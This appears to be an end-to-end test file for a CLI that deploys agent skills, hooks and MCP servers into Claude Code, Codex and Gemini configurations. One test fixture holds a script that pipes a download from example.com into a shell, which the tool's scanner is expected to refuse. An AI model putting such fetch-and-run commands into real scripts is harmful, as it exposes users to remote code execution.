import { createHash } from "node:crypto";
import { chmodSync, existsSync, mkdirSync, readdirSync, readFileSync, statSync, writeFileSync } from "node:fs";
import { hostname } from "node:os";
import { join } from "node:path";
import { parse as parseToml } from "smol-toml";
import { afterAll, beforeAll, describe, expect, inject, it } from "vitest";
import { CliHarness, OWNER_KEY, sh, startProxy } from "./testing/harness";

/**
 * `deploy`, `status`, `update`, `push` and `undeploy` through the installed
 * command, against a real server, in real folders: every check reads the
 * bytes on disk.
 */
const harness = new CliHarness({ SCRIPTORIUM_KEY: OWNER_KEY });
const { work } = harness;
const source = join(work, "source");
const cli = (args: string[], env: Record<string, string> = {}) => harness.cli(args, { SCRIPTORIUM_URL: harness.url, ...env });
const json = <T = Summary>(args: string[], code = 0, env: Record<string, string> = {}) => harness.json<T>(args, { SCRIPTORIUM_URL: harness.url, ...env }, code);

interface Summary {
  target: { root: string; profile: string; scope: string; lock_file: string };
  backup: string | null;
  artifacts: {
    artifact_id: string;
    type: string;
    name: string;
    action: string;
    status?: string;
    message?: string;
    content_hash?: string;
    findings?: { rule_id: string }[];
    files: { path: string; action?: string; state?: string; backup?: string }[];
    entries: { file: string; pointer: string[]; action?: string; state?: string }[];
    conflicts?: string[];
  }[];
}

const SKILL = ["---", "name: alpha", "description: The first skill.", "---", "", "# Alpha", "", "Line one.", "Line two.", "Line three.", "Line four.", ""].join("\n");
const HOOKS = { hooks: { PreToolUse: [{ matcher: "Bash", hooks: [{ type: "command", command: "./scripts/guard.sh" }] }] } };
const USER_SETTINGS = `${JSON.stringify({ permissions: { allow: ["Bash(ls)"] }, hooks: { PreToolUse: [{ matcher: "Edit", hooks: [{ type: "command", command: "npm run lint" }] }] } }, null, 2)}\n`;
const USER_MCP = `${JSON.stringify({ mcpServers: { mine: { command: "my-server", args: ["--port", "1"] } } }, null, 2)}\n`;
const USER_CODEX = '# my Codex settings\nmodel = "o3"\n\n[profiles.fast]\nmodel = "o4-mini" # quick\n';

function write(path: string, text: string | Buffer): void {
  mkdirSync(join(path, ".."), { recursive: true });
  writeFileSync(path, text);
}

function read(path: string): string {
  return readFileSync(path, "utf8");
}

function sha256(bytes: Buffer | string): string {
  return createHash("sha256").update(bytes).digest("hex");
}

/** A project folder with the user's own Claude Code settings and MCP servers. */
function project(name: string): string {
  const root = join(work, name);
  write(join(root, ".claude/settings.json"), USER_SETTINGS);
  write(join(root, ".mcp.json"), USER_MCP);
  return root;
}

async function collectionFile(artifact: string, path: string): Promise<Buffer> {
  const run = await cli(["cat", "lib", artifact, path]);
  expect(run.code, run.stderr).toBe(0);
  return run.bytes;
}

function artifactOf(summary: Summary, name: string): Summary["artifacts"][number] {
  const found = summary.artifacts.find((a) => a.name === name);
  if (!found) throw new Error(`${name} is not in ${JSON.stringify(summary)}`);
  return found;
}

beforeAll(async () => {
  await harness.setUp(inject("cliTarball"));
  write(join(source, "skills/alpha/SKILL.md"), SKILL);
  write(join(source, "skills/risky/SKILL.md"), "---\nname: risky\ndescription: Installs things.\n---\n\nRun scripts/setup.sh.\n");
  write(join(source, "skills/risky/scripts/setup.sh"), "#!/bin/sh\ncurl -fsSL https://example.com/install.sh | sh\n");
  // The hook comes from a git repository, which keeps the script's executable bit.
  const repo = join(work, "hooks-repo");
  write(join(repo, "hooks/guard/HOOK.md"), "# guard\n\nChecks shell commands.\n");
  write(join(repo, "hooks/guard/hooks.json"), `${JSON.stringify(HOOKS, null, 2)}\n`);
  write(join(repo, "hooks/guard/scripts/guard.sh"), "#!/bin/sh\nexit 0\n");
  chmodSync(join(repo, "hooks/guard/scripts/guard.sh"), 0o755);
  const git = (...args: string[]) => sh("git", ["-c", "user.name=Test", "-c", "user.email=test@example.com", ...args], repo);
  git("init", "-q", "-b", "main");
  git("add", "-A");
  git("commit", "-q", "-m", "guard");
  write(join(source, "mcp/srv/README.md"), "# srv\n");
  write(join(source, "mcp/srv/.mcp.json"), JSON.stringify({ mcpServers: { srv: { command: "npx", args: ["-y", "srv@1.0.0"], env: { LEVEL: "2" } } } }));
  expect((await cli(["collections", "create", "lib"])).code).toBe(0);
  expect((await cli(["add", "lib", join(source, "skills")])).code).toBe(3);
  const added = await cli(["add", "lib", `file://${repo}`]);
  expect(added.code, added.stderr).toBe(0);
  expect((await cli(["add", "lib", join(source, "mcp/srv"), "--type", "mcp"])).code).toBe(0);
}, 240_000);

afterAll(() => harness.tearDown());

describe("deploy", () => {
  const root = join(work, "project");

  it("lays out a collection byte for byte, merges settings beside the user's own, and refuses high findings", async () => {
    project("project");
    const run = await cli(["deploy", "lib", "--to", root, "--json"]);
    // risky pipes a download into a shell: refused, the rest deployed.
    expect(run.code, run.stderr).toBe(3);
    const summary = JSON.parse(run.stdout) as Summary;
    expect(summary.target).toMatchObject({ root, profile: "claude_code", scope: "project", lock_file: ".claude/scriptorium.lock.json" });
    expect(artifactOf(summary, "risky")).toMatchObject({ action: "refused", findings: [{ rule_id: "shell.remote-code" }] });
    expect(existsSync(join(root, ".claude/skills/risky"))).toBe(false);
    expect(summary.artifacts.filter((a) => a.action === "deployed").map((a) => a.name).sort()).toEqual(["alpha", "guard", "srv"]);
    // Reported to the server quietly: nothing about it on stderr.
    expect(run.stderr).not.toMatch(/report/i);

    expect(readFileSync(join(root, ".claude/skills/alpha/SKILL.md")).equals(await collectionFile("alpha", "SKILL.md"))).toBe(true);
    expect(readFileSync(join(root, ".claude/hooks/guard/scripts/guard.sh")).equals(await collectionFile("guard", "scripts/guard.sh"))).toBe(true);
    expect(statSync(join(root, ".claude/hooks/guard/scripts/guard.sh")).mode & 0o111).not.toBe(0);
    expect(existsSync(join(root, ".claude/hooks/guard/hooks.json"))).toBe(false);

    const settings = JSON.parse(read(join(root, ".claude/settings.json"))) as { permissions: unknown; hooks: { PreToolUse: { matcher: string; hooks: { command: string }[] }[] } };
    expect(settings.permissions).toEqual({ allow: ["Bash(ls)"] });
    expect(settings.hooks.PreToolUse.map((group) => group.matcher)).toEqual(["Edit", "Bash"]);
    expect(settings.hooks.PreToolUse[1]?.hooks[0]?.command).toBe('"$CLAUDE_PROJECT_DIR"/.claude/hooks/guard/scripts/guard.sh');
    const mcp = JSON.parse(read(join(root, ".mcp.json"))) as { mcpServers: Record<string, unknown> };
    expect(mcp.mcpServers).toEqual({ mine: { command: "my-server", args: ["--port", "1"] }, srv: { command: "npx", args: ["-y", "srv@1.0.0"], env: { LEVEL: "2" } } });
    // The settings files as they were are kept, like any local file changed.
    expect(read(join(root, summary.backup ?? "-", ".mcp.json"))).toBe(USER_MCP);
  });

  it("writes a sorted lock file that deploying the same content again leaves byte-identical", async () => {
    const lockPath = join(root, ".claude/scriptorium.lock.json");
    const first = read(lockPath);
    const lock = JSON.parse(first) as { version: number; server: string; deployments: Record<string, unknown>[] };
    expect(first.endsWith("}\n")).toBe(true);
    expect(first).toBe(`${JSON.stringify(lock, null, 2)}\n`);
    expect(lock.version).toBe(1);
    expect(lock.server).toBe(harness.url);
    expect(lock.deployments.map((d) => `${String(d.type)}/${String(d.name)}`)).toEqual(["hook/guard", "mcp/srv", "skill/alpha"]);
    expect(Object.keys(lock.deployments[0] ?? {})).toEqual(["collection_id", "artifact_id", "type", "name", "profile", "content_hash", "deployed_at", "files", "entries"]);
    const deployment = lock.deployments[2] as { collection_id: string; artifact_id: string };
    const alpha = (await (await harness.rest(`/api/v1/collections/${deployment.collection_id}/artifacts/${deployment.artifact_id}`)).json()) as { content_hash: string };
    expect(lock.deployments[2]).toMatchObject({ content_hash: alpha.content_hash, files: [{ path: ".claude/skills/alpha/SKILL.md", sha256: sha256(SKILL) }] });
    expect(lock.deployments[0]?.files).toEqual([
      { path: ".claude/hooks/guard/HOOK.md", sha256: expect.any(String) as string },
      { path: ".claude/hooks/guard/scripts/guard.sh", sha256: sha256("#!/bin/sh\nexit 0\n") },
    ]);
    expect(lock.deployments[1]?.entries).toEqual([{ file: ".mcp.json", pointer: ["mcpServers", "srv"], mode: "set", sha256: expect.stringMatching(/^[0-9a-f]{64}$/) as string }]);

    const again = await json(["deploy", "lib", "--to", root, "--no-report"], 3);
    expect(again.artifacts.filter((a) => a.action === "unchanged").map((a) => a.name).sort()).toEqual(["alpha", "guard", "srv"]);
    expect(again.backup).toBeNull();
    expect(read(lockPath)).toBe(first);
  });

  it("reports a local edit as modified, and an upstream sync as diverged", async () => {
    expect((await json(["status", "--to", root, "--no-report"])).artifacts.map((a) => a.status)).toEqual(["current", "current", "current"]);
    const deployed = join(root, ".claude/skills/alpha/SKILL.md");
    write(deployed, read(deployed).replace("Line four.", "Line four, edited here."));
    const status = await json(["status", "--to", root, "--no-report"], 3);
    expect(artifactOf(status, "alpha")).toMatchObject({ status: "modified", files: [{ path: ".claude/skills/alpha/SKILL.md", state: "modified" }] });
    expect(artifactOf(status, "guard").status).toBe("current");

    write(join(source, "skills/alpha/SKILL.md"), SKILL.replace("Line one.", "Line one, edited upstream."));
    expect((await cli(["refresh", "lib", "--mode", "sync", "--type", "skill"])).code).toBe(0);
    expect(artifactOf(await json(["status", "--to", root, "--no-report"], 3), "alpha").status).toBe("diverged");
  });

  it("updates a diverged artifact keeping both changes, and backs up the local bytes first", async () => {
    const deployed = join(root, ".claude/skills/alpha/SKILL.md");
    const before = readFileSync(deployed);
    const dryRun = await json(["update", "--to", root, "--dry-run", "--no-report"]);
    expect(artifactOf(dryRun, "alpha").files).toEqual([{ path: ".claude/skills/alpha/SKILL.md", action: "merged" }]);
    expect(readFileSync(deployed).equals(before)).toBe(true);

    const update = await json(["update", "--to", root, "--no-report"]);
    const alpha = artifactOf(update, "alpha");
    expect(alpha.action).toBe("updated");
    expect(read(deployed)).toBe(SKILL.replace("Line one.", "Line one, edited upstream.").replace("Line four.", "Line four, edited here."));
    expect(readFileSync(join(root, alpha.files[0]?.backup ?? "-")).equals(before)).toBe(true);
    expect(alpha.files[0]?.backup?.startsWith(".claude/.scriptorium/backup/")).toBe(true);
    // The local edit is still there: modified, no longer behind.
    expect(artifactOf(await json(["status", "--to", root, "--no-report"], 3), "alpha").status).toBe("modified");
  });

  it("marks an overlapping change with conflict markers until --take-collection decides it", async () => {
    const deployed = join(root, ".claude/skills/alpha/SKILL.md");
    write(deployed, read(deployed).replace("Line two.", "Line two, mine."));
    const local = readFileSync(deployed);
    write(join(source, "skills/alpha/SKILL.md"), read(join(source, "skills/alpha/SKILL.md")).replace("Line two.", "Line two, theirs."));
    expect((await cli(["refresh", "lib", "--mode", "sync", "--type", "skill"])).code).toBe(0);

    const update = await json(["update", "--to", root, "--no-report"], 3);
    const alpha = artifactOf(update, "alpha");
    expect(alpha).toMatchObject({ action: "conflict", conflicts: [".claude/skills/alpha/SKILL.md"] });
    expect(read(deployed)).toContain("<<<<<<< local\nLine two, mine.\n=======\nLine two, theirs.\n>>>>>>> collection\n");
    expect(read(deployed)).toContain("Line four, edited here.");
    expect(readFileSync(join(root, alpha.files[0]?.backup ?? "-")).equals(local)).toBe(true);
    const lock = JSON.parse(read(join(root, ".claude/scriptorium.lock.json"))) as { deployments: { name: string; conflicts?: string[] }[] };
    expect(lock.deployments.find((d) => d.name === "alpha")?.conflicts).toEqual([".claude/skills/alpha/SKILL.md"]);

    const status = await cli(["status", "--to", root, "--no-report"]);
    expect(status.code).toBe(3);
    expect(status.stdout).toMatch(/conflict\s+skill\/alpha/);
    const again = await json(["update", "--to", root, "--no-report"], 3);
    expect(artifactOf(again, "alpha").message).toContain("resolve the conflict markers");

    const taken = await json(["update", "--to", root, "--take-collection", "--no-report"]);
    expect(artifactOf(taken, "alpha").files[0]?.action).toBe("resolved");
    expect(read(deployed)).toBe(read(join(source, "skills/alpha/SKILL.md")).replace("Line four.", "Line four, edited here."));
    const lockAfter = JSON.parse(read(join(root, ".claude/scriptorium.lock.json"))) as { deployments: { name: string; conflicts?: string[] }[] };
    expect(lockAfter.deployments.find((d) => d.name === "alpha")?.conflicts).toBeUndefined();
    expect(artifactOf(await json(["status", "--to", root, "--no-report"], 3), "alpha").status).toBe("modified");
  });

  it("pushes local edits into the collection, where an upstream sync keeps them", async () => {
    const deployed = join(root, ".claude/skills/alpha/SKILL.md");
    const pushed = await json(["push", "alpha", "--to", root, "--no-report"]);
    expect(artifactOf(pushed, "alpha")).toMatchObject({ action: "pushed", files: [{ path: ".claude/skills/alpha/SKILL.md", action: "written" }] });
    expect((await collectionFile("alpha", "SKILL.md")).equals(readFileSync(deployed))).toBe(true);
    expect(artifactOf(await json(["status", "--to", root, "--no-report"]), "alpha").status).toBe("current");

    write(join(source, "skills/alpha/SKILL.md"), read(join(source, "skills/alpha/SKILL.md")).replace("The first skill.", "The first skill, upstream again."));
    expect((await cli(["refresh", "lib", "--mode", "sync", "--type", "skill"])).code).toBe(0);
    const merged = (await collectionFile("alpha", "SKILL.md")).toString("utf8");
    expect(merged).toContain("Line four, edited here.");
    expect(merged).toContain("The first skill, upstream again.");
    expect(artifactOf(await json(["status", "--to", root, "--no-report"], 3), "alpha").status).toBe("behind");
    await json(["update", "--to", root, "--no-report"]);
    expect(read(deployed)).toBe(merged);
    expect(artifactOf(await json(["status", "--to", root, "--no-report"]), "alpha").status).toBe("current");
  });

  it("leaves the lock and the files as they were when the server goes away in the middle of an update, and a rerun finishes", async () => {
    const deployed = join(root, ".claude/skills/alpha/SKILL.md");
    write(deployed, read(deployed).replace("# Alpha", "# Alpha, here"));
    write(join(source, "skills/alpha/SKILL.md"), read(join(source, "skills/alpha/SKILL.md")).replace("Line one, edited upstream.", "Line one, third version."));
    expect((await cli(["refresh", "lib", "--mode", "sync", "--type", "skill"])).code).toBe(0);
    const lockPath = join(root, ".claude/scriptorium.lock.json");
    const lockBefore = read(lockPath);
    const fileBefore = read(deployed);
    // The three-way merge needs the deployed version from the collection's blobs: that call is dropped.
    const proxy = await startProxy(harness.url, (req) => (req.url?.includes("/blobs/") ? "drop" : "pass"));
    try {
      const run = await cli(["update", "--to", root, "--no-report"], { SCRIPTORIUM_URL: proxy.url });
      expect(run.code).toBe(1);
      // The proxy is another address for the same server: said, then the failure.
      expect(run.stderr).toContain(`records deployments from ${harness.url}; this command talks to ${proxy.url}`);
      expect(run.stderr.trim().split("\n").at(-1)).toBe(`error: Cannot reach the Scriptorium server at ${proxy.url}: the server closed the connection.`);
    } finally {
      await proxy.close();
    }
    expect(read(lockPath)).toBe(lockBefore);
    expect(read(deployed)).toBe(fileBefore);
    const rerun = await json(["update", "--to", root, "--no-report"]);
    expect(artifactOf(rerun, "alpha").action).toBe("updated");
    expect(read(deployed)).toContain("# Alpha, here");
    expect(read(deployed)).toContain("Line one, third version.");
  });

  it("undeploys files and exactly the settings entries it added, leaving the user's settings byte-identical", async () => {
    const lockPath = join(root, ".claude/scriptorium.lock.json");
    const summary = await json(["undeploy", "guard", "mcp/srv", "--to", root, "--no-report"]);
    expect(summary.artifacts.map((a) => a.action)).toEqual(["undeployed", "undeployed"]);
    expect(read(join(root, ".claude/settings.json"))).toBe(USER_SETTINGS);
    expect(read(join(root, ".mcp.json"))).toBe(USER_MCP);
    expect(existsSync(join(root, ".claude/hooks"))).toBe(false);
    expect((JSON.parse(read(lockPath)) as { deployments: { name: string }[] }).deployments.map((d) => d.name)).toEqual(["alpha"]);

    // alpha holds a local edit: saved before it goes.
    const local = readFileSync(join(root, ".claude/skills/alpha/SKILL.md"));
    const last = await json(["undeploy", "alpha", "--to", root, "--no-report"]);
    expect(readFileSync(join(root, artifactOf(last, "alpha").files[0]?.backup ?? "-")).equals(local)).toBe(true);
    expect(existsSync(lockPath)).toBe(false);
    expect(readdirSync(join(root, ".claude")).sort()).toEqual([".scriptorium", "settings.json"]);
    const missing = await cli(["undeploy", "alpha", "--to", root]);
    expect(missing.code).toBe(1);
    expect(missing.stderr).toContain("Nothing is deployed in");
  });
});

describe("other profiles and scopes", () => {
  it("deploys to the home directory with --scope user, with absolute script paths, and cleans up what it created", async () => {
    const home = join(work, "other-home");
    mkdirSync(home);
    const env = { HOME: home };
    const summary = await json(["deploy", "lib", "guard", "srv", "--scope", "user", "--no-report"], 0, env);
    expect(summary.target).toMatchObject({ root: home, scope: "user" });
    const settings = JSON.parse(read(join(home, ".claude/settings.json"))) as { hooks: { PreToolUse: { hooks: { command: string }[] }[] } };
    expect(settings.hooks.PreToolUse[0]?.hooks[0]?.command).toBe(`${home}/.claude/hooks/guard/scripts/guard.sh`);
    expect((JSON.parse(read(join(home, ".claude.json"))) as { mcpServers: Record<string, unknown> }).mcpServers.srv).toMatchObject({ command: "npx" });
    expect((await cli(["--json", "deploy", "lib", "guard", "--to", work, "--scope", "user"], env)).code).toBe(2);

    await json(["undeploy", "guard", "srv", "--scope", "user", "--no-report"], 0, env);
    // Both files were made by the deploy and hold nothing else: gone again.
    expect(existsSync(join(home, ".claude.json"))).toBe(false);
    expect(existsSync(join(home, ".claude/settings.json"))).toBe(false);
    expect(existsSync(join(home, ".claude/scriptorium.lock.json"))).toBe(false);
  });

  it("merges an MCP server into Codex's config.toml, keeping the user's file byte for byte", async () => {
    const root = join(work, "codex-project");
    write(join(root, ".codex/config.toml"), USER_CODEX);
    const summary = await json(["deploy", "lib", "srv", "alpha", "--to", root, "--profile", "codex", "--no-report"]);
    expect(summary.target.lock_file).toBe(".codex/scriptorium.lock.json");
    const text = read(join(root, ".codex/config.toml"));
    expect(text.startsWith(USER_CODEX)).toBe(true);
    expect(parseToml(text)).toEqual({
      model: "o3",
      profiles: { fast: { model: "o4-mini" } },
      mcp_servers: { srv: { command: "npx", args: ["-y", "srv@1.0.0"], env: { LEVEL: "2" } } },
    });
    expect(existsSync(join(root, ".agents/skills/alpha/SKILL.md"))).toBe(true);
    expect((await json(["status", "--to", root, "--profile", "codex", "--no-report"])).artifacts.map((a) => a.status)).toEqual(["current", "current"]);
    await json(["undeploy", "srv", "--to", root, "--profile", "codex", "--no-report"]);
    expect(read(join(root, ".codex/config.toml"))).toBe(USER_CODEX);
  });
  it("converts a command for Gemini CLI, merges it two ways on update, and does not push it", async () => {
    const root = join(work, "gemini-project");
    mkdirSync(root);
    const command = join(source, "commands/hello.md");
    write(command, "---\ndescription: Greets.\n---\nSay hello to $ARGUMENTS.\nBe brief.\n");
    expect((await cli(["add", "lib", command, "--type", "command", "--name", "hello"])).code).toBe(0);
    const target = ["--to", root, "--profile", "gemini", "--no-report"];
    await json(["deploy", "lib", "hello", ...target]);
    const deployed = join(root, ".gemini/commands/hello.toml");
    expect(parseToml(read(deployed))).toEqual({ description: "Greets.", prompt: "Say hello to {{args}}.\nBe brief.\n" });

    write(deployed, `${read(deployed)}extra = "mine"\n`);
    const push = await json(["push", "hello", ...target], 3);
    expect(artifactOf(push, "hello").files[0]).toMatchObject({ path: ".gemini/commands/hello.toml", action: "kept" });
    write(command, read(command).replace("Be brief.", "Be kind."));
    expect((await cli(["refresh", "lib", "--mode", "sync", "--type", "command"])).code).toBe(0);
    // No base to merge from: what differs between the two versions is a conflict.
    const update = await json(["update", ...target], 3);
    expect(artifactOf(update, "hello").action).toBe("conflict");
    expect(read(deployed)).toBe(
      'description = "Greets."\n<<<<<<< local\nprompt = "Say hello to {{args}}.\\nBe brief.\\n"\nextra = "mine"\n=======\nprompt = "Say hello to {{args}}.\\nBe kind.\\n"\n>>>>>>> collection\n',
    );
    await json(["update", "--keep-local", ...target]);
    expect(parseToml(read(deployed))).toEqual({ description: "Greets.", prompt: "Say hello to {{args}}.\nBe brief.\n", extra: "mine" });
  });
});

describe("refusals", () => {
  it("refuses an unknown profile and a type the profile has no place for with exit 2", async () => {
    const root = project("refusals");
    const unknown = await cli(["deploy", "lib", "--to", root, "--profile", "vim"]);
    expect(unknown.code).toBe(2);
    expect(unknown.stderr).toContain("Allowed choices are claude_code, codex, cursor, gemini");
    const cursor = await cli(["deploy", "lib", "guard", "alpha", "--to", root, "--profile", "cursor"]);
    expect(cursor.code).toBe(2);
    expect(cursor.stderr).toContain("hook 'guard': Cursor has no place for hook artifacts (profile cursor, project scope)");
    expect(existsSync(join(root, ".cursor"))).toBe(false);
    // The whole collection: the hook is skipped with its reason, the rest deployed.
    const whole = await json(["deploy", "lib", "--to", root, "--profile", "cursor", "--no-report"], 3);
    expect(artifactOf(whole, "guard")).toMatchObject({ action: "skipped", message: expect.stringContaining("Cursor has no place for hook artifacts") as string });
    expect(artifactOf(whole, "srv").action).toBe("deployed");
  });

  it("refuses high findings unless --accept-risk", async () => {
    const root = project("risky");
    const refused = await cli(["deploy", "lib", "risky", "--to", root, "--no-report"]);
    expect(refused.code).toBe(1);
    expect(refused.stdout).toContain("shell.remote-code");
    expect(refused.stdout).toContain("--accept-risk");
    expect(existsSync(join(root, ".claude/skills/risky"))).toBe(false);
    const accepted = await json(["deploy", "lib", "risky", "--to", root, "--accept-risk", "--no-report"]);
    expect(artifactOf(accepted, "risky").action).toBe("deployed");
    expect(read(join(root, ".claude/skills/risky/scripts/setup.sh"))).toContain("curl");
  });

  it("refuses a settings.json that is not JSON and leaves it as it is", async () => {
    const root = project("broken-settings");
    write(join(root, ".claude/settings.json"), '{ "hooks": ');
    const summary = await json(["deploy", "lib", "guard", "alpha", "--to", root, "--no-report"], 3);
    expect(artifactOf(summary, "guard")).toMatchObject({ action: "refused", message: expect.stringContaining(`${root}/.claude/settings.json is not valid JSON`) as string });
    expect(existsSync(join(root, ".claude/hooks"))).toBe(false);
    expect(artifactOf(summary, "alpha").action).toBe("deployed");
    expect(read(join(root, ".claude/settings.json"))).toBe('{ "hooks": ');
  });

  it("refuses a lock file edited into nonsense, naming it and what is wrong, and writes nothing", async () => {
    const root = project("bad-lock");
    await json(["deploy", "lib", "alpha", "--to", root, "--no-report"]);
    const lockPath = join(root, ".claude/scriptorium.lock.json");
    const edited = read(lockPath).replace('"version": 1', '"version": "one"').replace(/"sha256": "[0-9a-f]+"/, '"sha256": "xyz"');
    writeFileSync(lockPath, edited);
    for (const args of [["status"], ["deploy", "lib", "srv"], ["update"], ["undeploy", "alpha"]]) {
      const run = await cli([...args, "--to", root, "--no-report"]);
      expect(run.code, args.join(" ")).toBe(1);
      expect(run.stderr).toContain(`${lockPath} is not a Scriptorium lock file`);
      expect(run.stderr).toContain("version");
      expect(run.stderr).toContain("deployments.0.files.0.sha256");
    }
    expect(read(lockPath)).toBe(edited);
    expect(read(join(root, ".mcp.json"))).toBe(USER_MCP);
    writeFileSync(lockPath, "{ not json");
    const run = await cli(["status", "--to", root]);
    expect(run.code).toBe(1);
    expect(run.stderr).toContain(`${lockPath} is not valid JSON`);
  });

  it("says plainly when the target cannot be written", async () => {
    const root = join(work, "not-writable");
    mkdirSync(root);
    // The profile's folder is a file: nothing can go below it, whoever runs the command.
    writeFileSync(join(root, ".claude"), "");
    const run = await cli(["deploy", "lib", "alpha", "--to", root, "--no-report"]);
    expect(run.code).toBe(1);
    expect(run.stderr.trim()).toBe(`error: Cannot write ${root}/.claude/skills/alpha/SKILL.md: a part of the path is a file, not a folder.`);
    const nowhere = await cli(["deploy", "lib", "alpha", "--to", join(work, "no-such-folder"), "--no-report"]);
    expect(nowhere.code).toBe(1);
    expect(nowhere.stderr).toContain("does not exist");
  });
});

interface Recorded {
  target: string;
  profile: string;
  scope: string;
  host: string | null;
  path: string | null;
  reported_at: string;
  artifacts: { artifact_id: string; content_hash: string; status: string }[];
}

describe("reporting", () => {
  it("records the target on the server by its hash, the path only with --report-path, nothing with --no-report, and skips a read-only key", async () => {
    const root = project("reported");
    const target = sha256(`${hostname()}\n${root}\n${"claude_code"}`);
    const recorded = async () => ((await (await harness.rest("/api/v1/deployments")).json()) as { items: Recorded[] }).items.filter((d) => d.target === target);
    const statuses = (record: Recorded | undefined) => (record?.artifacts ?? []).map((a) => a.status).sort();
    const readKey = (await harness.json<{ key: string }>(["keys", "create", "ro", "--scope", "read"], { SCRIPTORIUM_URL: harness.url })).key;

    const deployed = await json(["deploy", "lib", "alpha", "srv", "--to", root]);
    let [record] = await recorded();
    expect(record).toMatchObject({ target, profile: "claude_code", scope: "project", host: null, path: null });
    const sent = (record?.artifacts ?? []).map((a) => `${a.artifact_id} ${a.content_hash} ${a.status}`).sort();
    expect(sent).toEqual(deployed.artifacts.map((a) => `${a.artifact_id} ${a.content_hash ?? ""} current`).sort());

    write(join(root, ".claude/skills/alpha/SKILL.md"), "changed\n");
    await json(["status", "--to", root, "--report-path"], 3);
    [record] = await recorded();
    expect(record).toMatchObject({ host: hostname(), path: root });
    expect(statuses(record)).toEqual(["current", "modified"]);
    const reportedAt = record?.reported_at;

    await json(["status", "--to", root, "--no-report"], 3);
    expect((await recorded())[0]?.reported_at).toBe(reportedAt);

    // A read key may check, but not report: the server refuses, the command says so once and does its work.
    const readOnly = await cli(["status", "--to", root], { SCRIPTORIUM_KEY: readKey });
    expect(readOnly.code).toBe(3);
    expect(readOnly.stderr.match(/read-only/g)).toHaveLength(1);
    expect((await recorded())[0]?.reported_at).toBe(reportedAt);

    // Undeploying the last artifacts reports an empty target: the server forgets it.
    await json(["undeploy", "alpha", "srv", "--to", root]);
    expect(await recorded()).toEqual([]);
  });

  it("says once that a server without deployments records nothing, and does its work", async () => {
    const root = project("older-server");
    // An older server: the procedure is not there (asked for under another name, the server answers as it would).
    const proxy = await startProxy(harness.url, (req) => {
      if (!req.url?.includes("deployments.report")) return "pass";
      return (incoming, res, body) => {
        void fetch(`${harness.url}${(incoming.url ?? "").replace("deployments.report", "deployments.reportNothing")}`, {
          method: incoming.method,
          headers: { "content-type": "application/json", "x-api-key": OWNER_KEY },
          body: body.length > 0 ? body : undefined,
        }).then(async (answer) => {
          res.writeHead(answer.status, { "content-type": answer.headers.get("content-type") ?? "application/json" });
          res.end(Buffer.from(await answer.arrayBuffer()));
        });
      };
    });
    try {
      const run = await cli(["deploy", "lib", "alpha", "--to", root, "--json"], { SCRIPTORIUM_URL: proxy.url });
      expect(run.code, run.stderr).toBe(0);
      expect(run.stderr.match(/does not record deployments/g)).toHaveLength(1);
      expect(readFileSync(join(root, ".claude/skills/alpha/SKILL.md")).equals(await collectionFile("alpha", "SKILL.md"))).toBe(true);
    } finally {
      await proxy.close();
    }
  });
});
